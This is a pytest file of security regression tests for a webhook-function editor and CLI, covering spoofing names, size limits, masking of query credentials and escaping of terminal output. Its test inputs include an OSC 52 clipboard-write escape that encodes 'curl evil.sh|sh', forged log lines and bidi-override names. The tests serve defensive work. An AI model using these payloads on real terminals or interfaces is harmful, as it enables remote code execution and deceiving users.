# ruff: noqa: E501  (cases read better unwrapped)
"""Attacks from outside on the editor as an IDE (issue 14): samples and their names and
sizes, saved tests' sizes, the catcher's captures and the dead letters a member reads,
the lines functions-cli prints of what a sender wrote. Each test is a hole found by
attacking them, now closed (docs/security.md lists them)."""

import io
import json
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from functions_cli import preview
from ingest.models import Execution, IngestEvent
from tests.catalog.helpers import API, create_function, deploy
from tests.factories import bearer
from tests.ingest.helpers import TRACK_AND_SET, source_running

pytestmark = pytest.mark.django_db

REQUEST = {"method": "POST", "url": "https://example.com/hook", "headers": {},
           "body": {"amount": 2000}}  # fmt: skip


# --- Names that read as other names -----------------------------------------------------
# A sample's name took anything: a line break, an escape sequence, U+202E (the text after
# it shows right to left, in the editor's Sample payload menu and wherever else it is
# listed), or only a zero-width space (a blank entry of the menu). Saved tests refused
# control characters but not the characters that reorder text; functions' and sources'
# names took all of them. Every name people read follows catalog.names now.

HOSTILE_NAMES = ["paid\u202edesrever", "a\u2066b\u2069", "x\n1 passed, 0 failed",
                 "red \x1b[31mtext", "\u200b", " \u200d "]  # fmt: skip


def sample_url(function, sample_id=None) -> str:
    tail = f"{sample_id}/" if sample_id else ""
    return f"{API}/functions/{function['id']}/samples/{tail}"


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_sample_s_name_is_one_line_that_reads_as_kept(owner_api, name):
    function = create_function(owner_api)
    created = owner_api.post(
        sample_url(function), {"name": name, "request": REQUEST}, format="json"
    )
    assert created.status_code == 400, created.content
    [problem] = created.json()["errors"]["name"]
    assert problem.startswith(("A name is one line of text as it reads", "A name needs a letter"))

    kept = owner_api.post(sample_url(function), {"name": "Paid", "request": REQUEST}, format="json")
    renamed = owner_api.patch(
        sample_url(function, kept.json()["id"]), {"name": name}, format="json"
    )
    assert renamed.status_code == 400
    assert owner_api.get(sample_url(function)).json()["results"][0]["name"] == "Paid"

    made = owner_api.post(
        f"{API}/functions/",
        {"name": "B", "samples": [{"name": name, "request": REQUEST}]},
        format="json",
    )
    assert made.status_code == 400
    assert list(made.json()["errors"]) == ["samples[0].name"]


def test_the_refusal_says_which_character(owner_api):
    function = create_function(owner_api)
    created = owner_api.post(
        sample_url(function), {"name": "paid\u202ex", "request": REQUEST}, format="json"
    )
    assert created.json()["errors"]["name"] == [
        "A name is one line of text as it reads: character 5 is U+202E RIGHT-TO-LEFT "
        "OVERRIDE (no line breaks, control characters or characters that reorder text)."
    ]


@pytest.mark.parametrize(
    "name",
    [
        "Zahlung \u0645\u062f\u0641\u0648\u0639",
        "\U0001f469\u200d\U0001f4bb deploys",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    ],
)
def test_names_in_any_script_and_emoji_sequences_are_kept(owner_api, name):
    function = create_function(owner_api)
    created = owner_api.post(
        sample_url(function), {"name": name, "request": REQUEST}, format="json"
    )
    assert created.status_code == 201, created.content
    assert created.json()["name"] == name


@pytest.mark.parametrize("name", ["paid\u202edesrever", "\u200b"])
def test_functions_sources_and_saved_tests_take_no_such_name_either(owner_api, name):
    made = owner_api.post(f"{API}/functions/", {"name": name}, format="json")
    assert made.status_code == 400
    assert "name" in made.json()["errors"]
    function = create_function(owner_api)
    renamed = owner_api.patch(f"{API}/functions/{function['id']}/", {"name": name}, format="json")
    assert renamed.status_code == 400

    test = {"name": name, "request": REQUEST, "expect": {"events": []}}
    saved = owner_api.post(f"{API}/functions/{function['id']}/tests/", test, format="json")
    assert saved.status_code == 400
    assert "name" in saved.json()["errors"]

    deploy(owner_api, function["id"])
    connected = owner_api.post(
        f"{API}/sources/", {"function": function["id"], "name": name}, format="json"
    )
    assert connected.status_code == 400
    assert "name" in connected.json()["errors"]
    source = owner_api.post(
        f"{API}/sources/", {"function": function["id"], "name": "In"}, format="json"
    ).json()
    renamed = owner_api.patch(f"{API}/sources/{source['slug']}/", {"name": name}, format="json")
    assert renamed.status_code == 400
    assert owner_api.get(f"{API}/sources/{source['slug']}/").json()["name"] == "In"


# --- 50 samples of 2 MB each --------------------------------------------------------------
# A sample could be as large as the API's body limit, and a function keeps 50: some 100 MB
# that the editor loaded, whole, every time it opened the function (and the list answered
# in one page). So with saved tests, which the deploy gate also runs. A function's samples
# hold at most catalog.fields.KEPT_BYTES of JSON in all, and so do its saved tests,
# whichever way they come (one by one, a changed one, the samples of a new function).


def big(size: int) -> dict:
    return {"method": "POST", "url": "https://example.com/hook", "rawBody": "x" * size}


def test_a_function_s_samples_hold_at_most_5_mb(owner_api):
    function = create_function(owner_api)
    for n in range(2):
        added = owner_api.post(
            sample_url(function), {"name": f"s{n}", "request": big(2_000_000)}, format="json"
        )
        assert added.status_code == 201, added.content[:300]
    refused = owner_api.post(
        sample_url(function), {"name": "s2", "request": big(1_500_000)}, format="json"
    )
    assert refused.status_code == 400
    assert refused.json()["errors"]["request"] == [
        "A function's samples hold at most 5,000,000 bytes (5 MB) of JSON in all; these "
        "would hold 5,500,189. Delete one, or keep a smaller one."
    ]
    assert owner_api.get(sample_url(function)).json()["count"] == 2

    small = owner_api.post(sample_url(function), {"name": "s2", "request": REQUEST}, format="json")
    grown = owner_api.patch(
        sample_url(function, small.json()["id"]), {"request": big(1_500_000)}, format="json"
    )
    assert grown.status_code == 400
    assert "at most 5,000,000 bytes" in grown.json()["errors"]["request"][0]
    assert owner_api.get(sample_url(function, small.json()["id"])).json()["request"] == REQUEST


def test_a_new_function_s_samples_hold_at_most_5_mb_too(owner_api, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 8_000_000  # a server that takes larger bodies
    samples = [{"name": f"s{n}", "request": big(1_800_000)} for n in range(3)]
    made = owner_api.post(f"{API}/functions/", {"name": "Big", "samples": samples}, format="json")
    assert made.status_code == 400
    assert "samples hold at most 5,000,000 bytes" in made.json()["errors"]["samples"][0]


def test_a_function_s_saved_tests_hold_at_most_5_mb(owner_api):
    function = create_function(owner_api)
    tests = f"{API}/functions/{function['id']}/tests/"
    for n in range(2):
        test = {"name": f"t{n}", "request": big(2_000_000), "expect": {"events": []}}
        assert owner_api.post(tests, test, format="json").status_code == 201
    test = {"name": "t2", "request": REQUEST, "expect": {"events": [{"event": "x" * 1_500_000}]}}
    refused = owner_api.post(tests, test, format="json")
    assert refused.status_code == 400
    assert "saved tests hold at most 5,000,000 bytes" in refused.json()["errors"]["expect"][0]
    assert owner_api.get(tests).json()["count"] == 2


# --- A sender's credential in the query, read by every member -----------------------------
# Some senders authenticate in the URL (`?token=`, `?api_key=`, `?signature=`): the
# debugger hides such values from everyone (ingest.live.request_shown), but a capture's
# query string and URL (and the request a Run takes from it), a dead letter's query
# string, and a sample's or saved test's url showed them whole to members and source
# admins, who see the credential headers of the same requests masked. They are masked
# alike now (catalog.masking.mask_query_string); owners still read them whole.

QUERY = "shop=acme&api_key=sk_live_in_the_url&X-Amz-Signature=f00d"
MASKED = "shop=acme&api_key=••••&X-Amz-Signature=••••"


@pytest.fixture
def member_api(member_user, workspace, api_client_for):
    return api_client_for(member_user, workspace)


def test_a_capture_s_query_credentials_are_masked_below_owner(client, owner_api, member_api):
    function = create_function(owner_api)
    test_url = owner_api.get(f"{API}/functions/{function['id']}/catcher/").json()["url"]
    caught = client.post(
        f"{urlsplit(test_url).path}?{QUERY}", b'{"a": 1}', content_type="application/json"
    )
    assert caught.status_code == 200
    captures = f"{API}/functions/{function['id']}/captures/"
    listed = member_api.get(captures).json()["results"][0]
    one = member_api.get(f"{captures}{caught.json()['id']}/").json()
    for shown in (listed, one):
        assert shown["query_string"] == MASKED
        assert shown["url"].endswith(f"…?{MASKED}")
        assert shown["request"]["url"] == shown["url"]
        assert "sk_live_in_the_url" not in str(shown)
    assert owner_api.get(captures).json()["results"][0]["query_string"] == QUERY


def test_a_dead_letter_s_query_credentials_are_masked_below_owner(owner_api, member_api, workspace):
    source = source_running(TRACK_AND_SET, workspace=workspace, slug="orders")
    IngestEvent.objects.create(
        source=source, version=source.version, method="POST", path="/hooks/x",
        query_string=QUERY, raw_body=b"{}", status=IngestEvent.Status.FAILED,
    )  # fmt: skip
    dead_letters = f"{API}/sources/orders/dead-letters/"
    assert member_api.get(dead_letters).json()["results"][0]["query_string"] == MASKED
    assert owner_api.get(dead_letters).json()["results"][0]["query_string"] == QUERY


def test_a_kept_request_s_query_credentials_are_masked_below_owner(owner_api, member_api):
    function = create_function(owner_api)
    samples = f"{API}/functions/{function['id']}/samples/"
    tests = f"{API}/functions/{function['id']}/tests/"
    ours = {**REQUEST, "url": f"https://example.com/hook?{QUERY}"}
    segments = {
        "payload": {
            "body": {},
            "headers": {},
            "queryParameters": {"shop": "acme", "api_key": "sk_live_in_the_url"},
        }
    }
    owner_api.post(samples, {"name": "Ours", "request": ours}, format="json")
    owner_api.post(samples, {"name": "Segment's", "request": segments}, format="json")
    owner_api.post(tests, {"name": "T", "request": ours, "expect": {"events": []}}, format="json")
    shown = member_api.get(samples).json()["results"]
    assert shown[0]["request"]["url"] == f"https://example.com/hook?{MASKED}"
    assert shown[1]["request"]["payload"]["queryParameters"] == {"shop": "acme", "api_key": "••••"}
    assert (
        member_api.get(tests).json()["results"][0]["request"]["url"]
        == f"https://example.com/hook?{MASKED}"
    )
    assert owner_api.get(samples).json()["results"][0]["request"] == ours


# --- What a sender wrote, printed raw to a developer's terminal ---------------------------
# `functions-cli logs` printed a function's console output and error message as they
# were, and they hold what senders send (console.log(body.type), `${type} is not
# supported`): a webhook could write escape sequences to the terminal of whoever follows
# the logs (the clipboard through ESC ] 52, the title, links) and forge lines that read
# as the CLI's own (another execution, SUCCEEDED). So could a preview's error lines and a
# destination's answer. Each is printed on its line, control characters as escapes
# (functions_cli.text.printable), as `functions-cli test` prints a case.

ROOT = Path(__file__).resolve().parents[2]
FORGED_LOG = "got charge\n2026-01-01T00:00:00Z  #1 attempt 1  SUCCEEDED"
CLIPBOARD = "unknown type \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
def test_functions_cli_logs_prints_a_sender_s_text_as_escapes(
    live_server, workspace, owner, tmp_path
):
    source = source_running(TRACK_AND_SET, workspace=workspace, slug="orders")
    event = IngestEvent.objects.create(
        source=source, version=source.version, method="POST", path="/hooks/x", raw_body=b"{}"
    )
    Execution.objects.create(
        ingest_event=event, source=source, version=source.version, attempt=1,
        started_at=event.received_at, duration_ms=1.0, status="failed",
        error={"name": "EventNotSupported", "message": CLIPBOARD},
        logs=[{"level": "log", "message": FORGED_LOG}],
    )  # fmt: skip
    env = {**os.environ, "SOURCE_FN_CONFIG": str(tmp_path / "config.json"), "PYTHONPATH": str(ROOT)}
    token = bearer(owner, workspace).removeprefix("Bearer ")
    for args in (("login", "--url", live_server.url, "--workspace", "acme", "--token", token),
                 ("logs", "--source", "orders")):  # fmt: skip
        done = subprocess.run([sys.executable, "-m", "functions_cli.main", *args],
                              capture_output=True, text=True, env=env, timeout=60)  # fmt: skip
        assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[1:] == [
        "    EventNotSupported: unknown type \\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007",
        "    [log] got charge\\n2026-01-01T00:00:00Z  #1 attempt 1  SUCCEEDED",
    ]


def test_functions_cli_preview_prints_a_sender_s_error_as_escapes():
    counts = {"compared": 1, "same": 0, "different": 1, "new_errors": 1, "fixed_errors": 0,
              "changed_errors": 0, "events": {"changed": 0, "new": 0, "missing": 0},
              "objects": {"changed": 0, "new": 0, "missing": 0}}  # fmt: skip
    different = [{"ingest_event": 7, "received_at": "2026-01-01T00:00:00Z", "version": 1,
                  "error": {"change": "new", "before": None,
                            "after": {"name": "EventNotSupported", "message": CLIPBOARD}}}]  # fmt: skip
    out = io.StringIO()
    preview._print(
        {"summary": counts, "source": "orders", "fetch": "fetch was off."}, different, out
    )
    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue()
    assert (
        "    new error: EventNotSupported: unknown type \\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007"
        in out.getvalue().splitlines()
    )


# --- 50 webhooks of 250 KB to a test URL ---------------------------------------------------
# Whoever has a function's test URL (a sender set up with it) could send 50 bodies just
# under the 256 KB that lists leave out: every editor opening the function then got a
# 39 MB list (each body shows as body, json and request) in the websocket's first
# message, and GET captures/ answered as much. A list carries at most 1 MB of bodies now,
# newest first; the others are truncated, and whole when opened.


def test_a_list_of_captures_carries_at_most_1_mb_of_bodies(client, owner_api):
    function = create_function(owner_api)
    test_url = urlsplit(
        owner_api.get(f"{API}/functions/{function['id']}/catcher/").json()["url"]
    ).path
    body = json.dumps({"items": ["x" * 100] * 2400}).encode()  # 250 KB
    ids = [
        client.post(test_url, body, content_type="application/json").json()["id"] for _ in range(50)
    ]
    captures = f"{API}/functions/{function['id']}/captures/"
    listed = owner_api.get(captures)
    assert len(listed.content) < 4_000_000
    results = listed.json()["results"]
    assert [c["truncated"] for c in results] == [False] * 4 + [True] * 46
    assert results[4]["size"] == len(body) and "body" not in results[4]
    assert owner_api.get(f"{captures}{ids[0]}/").json()["body"] == body.decode()
